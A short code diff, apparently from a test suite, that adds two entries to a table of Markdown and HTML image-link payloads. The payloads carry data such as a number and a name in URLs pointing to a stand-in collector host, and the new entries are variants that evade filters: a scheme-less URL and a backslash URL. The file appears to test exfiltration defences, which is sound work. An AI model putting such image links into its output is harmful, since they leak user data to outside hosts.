@@ -97,6 +97,8 @@ CARRYING = {
     "behind more than is read": f"![]({HOST}/{'x' * 5_000}?d=440012349876)",
     "behind many others": "".join(f"![]({HOST}/{number})" for number in range(300)) + f"![]({HOST}/?d=440012349876)",
     "as HTML": f'<img alt="x" src="{HOST}/p.png?name=wetherby">',
+    "without a scheme": "![x](//collector.example/p.png?d=440012349876)",
+    "with backslashes": r'<img src="https:\\collector.example\p.png?name=wetherby">',
 }
 
 
